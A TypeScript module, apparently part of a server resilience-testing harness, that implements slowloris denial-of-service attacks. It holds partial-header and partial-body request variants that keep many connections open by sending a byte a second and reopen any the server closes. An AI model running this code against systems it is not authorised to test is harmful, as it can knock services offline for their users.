import type { Socket } from "node:net";
import { atRate } from "../at-rate.ts";
import { openSocket, type Reached } from "../sockets.ts";
import { type Attack, createTally } from "./attack.ts";

/** What each connection sends first, and what it then sends a byte at a time. */
const KINDS = {
  "slow-headers": { begin: "GET /v1/geo HTTP/1.1\r\nHost: a\r\nX-Slow: ", what: "headers" },
  "slow-bodies": { begin: "GET /v1/geo HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n", what: "bodies" },
} as const;

/** Requests sent at a byte a second ("slowloris"), which cost the sender next to nothing. */
export function slowRequests(name: keyof typeof KINDS, { connections }: { connections: number }): Attack {
  const { begin, what } = KINDS[name];
  return {
    name,
    about: `${connections.toLocaleString("en")} requests whose ${what} are sent at a byte a second`,
    async run(target, signal) {
      const tally = createTally();
      await dripped({ target, signal, connections, begin, add: tally.add });
      return { tally: tally.counts, problems: [] };
    },
  };
}

/** Keeps connections open that send a byte a second, and reopens those that the server closes. */
export async function dripped(options: {
  target: Reached;
  signal: AbortSignal;
  connections: number;
  begin: string;
  add: (what: string) => void;
}): Promise<void> {
  const { target, signal, connections, begin, add } = options;
  const sockets: (Socket | null)[] = [];
  const open = async (index: number) => {
    const socket = await openSocket(target);
    if (!socket) return add("refused connections");
    add("connections");
    socket.resume().write(begin);
    sockets[index] = socket;
  };
  await Promise.all(Array.from({ length: connections }, (_, index) => open(index)));
  await atRate(connections, signal, (turn) => {
    const index = turn % connections;
    const socket = sockets[index];
    if (socket && !socket.destroyed) return void socket.write("x");
    if (socket) add("closed by the server");
    // If this fails, the next turn retries.
    sockets[index] = null;
    void open(index);
  });
  for (const socket of sockets) socket?.destroy();
}
